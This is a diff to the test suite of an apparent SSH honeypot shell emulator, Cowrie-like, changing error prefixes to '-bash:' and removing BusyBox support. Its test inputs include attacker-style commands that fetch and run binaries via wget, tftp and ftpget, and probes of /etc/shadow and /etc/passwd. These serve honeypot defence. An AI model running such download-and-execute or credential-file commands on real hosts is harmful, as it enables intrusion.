@@ -161,7 +161,7 @@ def test_quotes_variables_and_status() -> None:
     assert out(sh, """echo "a  b" 'c $HOME' $HOME ${USER} ~""") == "a  b c $HOME /home/admin admin /home/admin\n"
     assert out(sh, "export FOO='x y'; echo $FOO ${#FOO}") == "x y 3\n"
     assert out(sh, "false; echo $?") == "1\n"
-    assert out(sh, "nosuch; echo $?") == "bash: nosuch: command not found\n127\n"
+    assert out(sh, "nosuch; echo $?") == "-bash: nosuch: command not found\n127\n"
     assert out(sh, "echo $((6*7))") == "42\n"
     assert out(sh, "unset FOO; echo ${FOO:-default}") == "default\n"
     assert "PATH=/usr/local/bin:/usr/bin:/bin" in out(sh, "env")
@@ -184,33 +184,33 @@ def test_chains_and_pipes() -> None:
 def test_syntax_errors() -> None:
     sh = make()
     res = run(sh, "ls ;; ls")
-    assert res.output == "bash: syntax error near unexpected token `;;'\n" and res.status == 2
-    assert out(sh, "| ls") == "bash: syntax error near unexpected token `|'\n"
-    assert out(sh, "echo >") == "bash: syntax error near unexpected token `newline'\n"
-    assert out(sh, "done") == "bash: syntax error near unexpected token `done'\n"
+    assert res.output == "-bash: syntax error near unexpected token `;;'\n" and res.status == 2
+    assert out(sh, "| ls") == "-bash: syntax error near unexpected token `|'\n"
+    assert out(sh, "echo >") == "-bash: syntax error near unexpected token `newline'\n"
+    assert out(sh, "done") == "-bash: syntax error near unexpected token `done'\n"
     assert "unexpected EOF" in out(sh, "echo 'open")
 
 
 def test_unknown_command_and_events() -> None:
     sh = make()
     res = run(sh, "foo --bar; ls /tmp")
-    assert res.output == "bash: foo: command not found\n"
+    assert res.output == "-bash: foo: command not found\n"
     assert events(sh, "cowrie.command.input") == [{"command": "foo --bar; ls /tmp"}]
     assert events(sh, "cowrie.command.failed") == [{"command": "foo --bar"}]
     run(sh, "   ")
     assert len(events(sh, "cowrie.command.input")) == 1
     for missing in ("ifconfig", "netstat", "python"):
         res = run(sh, missing)
-        assert res.output == f"bash: {missing}: command not found\n" and res.status == 127
+        assert res.output == f"-bash: {missing}: command not found\n" and res.status == 127
     assert out(sh, "python3 --version") == "Python 3.11.2\n"
 
 
 def test_every_command_is_installed() -> None:
     root, admin = make(), make(ADMIN)
-    for name in set(COMMANDS) - BUILTINS - {"ash", "usleep", "time"}:
+    for name in set(COMMANDS) - BUILTINS - {"ash", "usleep", "time", "busybox"}:  # busybox: the IoT persona only
         assert root.find_in_path(name) is not None, name
     assert admin.find_in_path("service") is None  # /usr/sbin is not in a user's PATH on Debian
-    assert out(admin, "useradd x") == "bash: useradd: command not found\n"
+    assert out(admin, "useradd x") == "-bash: useradd: command not found\n"
     assert out(root, "which ls wget") == "/usr/bin/ls\n/usr/bin/wget\n"
     assert out(admin, "type ls cd") == "ls is aliased to `ls --color=auto'\ncd is a shell builtin\n"
 
@@ -260,8 +260,8 @@ def test_path_traversal_stays_virtual(tmp_path: Path) -> None:
     assert out(sh, "cat /../../etc/hostname") == "web-01\n"
     assert out(sh, "cat /etc/shadow") == "cat: /etc/shadow: Permission denied\n"
     assert out(sh, "ls /root") == "ls: cannot open directory '/root': Permission denied\n"
-    assert out(sh, "cd /root") == "bash: cd: /root: Permission denied\n"
-    assert out(sh, "echo x > /etc/passwd") == "bash: /etc/passwd: Permission denied\n"
+    assert out(sh, "cd /root") == "-bash: cd: /root: Permission denied\n"
+    assert out(sh, "echo x > /etc/passwd") == "-bash: /etc/passwd: Permission denied\n"
     assert out(sh, "dmesg") == "dmesg: read kernel buffer failed: Operation not permitted\n"
     secret = tmp_path / "host-secret.txt"
     secret.write_text("HOST CONTENT\n")
@@ -272,12 +272,11 @@ def test_path_traversal_stays_virtual(tmp_path: Path) -> None:
 
 
 def test_busybox() -> None:
+    # Debian 12 cloud images ship no BusyBox: bash answers as it does for any missing program
     sh = make()
     res = run(sh, "/bin/busybox ECCHI")
-    assert res.output == "ECCHI: applet not found\n" and res.status == 127
-    assert out(sh, "busybox").startswith("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary.\n")
-    assert out(sh, "busybox echo hi") == "hi\n"
-    assert out(sh, "/bin/busybox ECCHI; echo $?") == "ECCHI: applet not found\n127\n"
+    assert res.output == "-bash: /bin/busybox: No such file or directory\n" and res.status == 127
+    assert out(sh, "busybox; echo $?") == "-bash: busybox: command not found\n127\n"
 
 
 def test_sudo_su_apt_crontab_passwd() -> None:
@@ -327,8 +326,8 @@ def test_elf_download_segfaults() -> None:
     sh = make(result=elf)
     res = run(sh, "cd /tmp; wget -q http://192.0.2.1/m; chmod 777 m; ./m")
     assert res.output == "Segmentation fault\n" and res.status == 139
-    assert out(sh, "./nothere") == "bash: ./nothere: No such file or directory\n"
-    assert out(sh, "touch t; ./t") == "bash: ./t: Permission denied\n"
+    assert out(sh, "./nothere") == "-bash: ./nothere: No such file or directory\n"
+    assert out(sh, "touch t; ./t") == "-bash: ./t: Permission denied\n"
 
 
 def test_wget_failures() -> None:
@@ -363,7 +362,7 @@ def test_curl_url_extraction() -> None:
 def test_tftp_ftpget_url_extraction() -> None:
     sh = make()
     run(sh, "cd /tmp; tftp -g -r mips 192.0.2.7; tftp -l loc -r bins/arm -g 192.0.2.7 6969")
-    run(sh, "tftp 192.0.2.8 -c get arm7; busybox tftp -g -r sh4 192.0.2.9")
+    run(sh, "tftp 192.0.2.8 -c get arm7; tftp -g -r sh4 192.0.2.9")
     run(sh, "ftpget -u anon -p 'p@ss' -P 2121 192.0.2.10 local.bin /pub/remote.bin; ftpget 192.0.2.11 x y")
     assert urls(sh) == [
         "tftp://192.0.2.7:69/mips",
@@ -402,7 +401,7 @@ def test_deep_substitution_bounded() -> None:
     res = run(sh, line)
     assert "maximum nesting level exceeded" in res.output
     res = run(sh, "echo " + "(" * 5000)
-    assert res.output.startswith("bash: syntax error")
+    assert res.output.startswith("-bash: syntax error")
     shallow = "echo " + "$(echo " * 3 + "ok" + ")" * 3
     assert out(sh, shallow) == "ok\n"
 
@@ -414,7 +413,7 @@ def test_huge_line_is_capped() -> None:
     assert len(events(sh, "cowrie.command.input")[0]["command"]) == 16 * 1024
     res = run(sh, "echo '" + "a" * 1_000_000)
     assert "unexpected EOF" in res.output
-    assert out(sh, "''") == "bash: : command not found\n"
+    assert out(sh, "''") == "-bash: : command not found\n"
 
 
 @pytest.mark.parametrize(
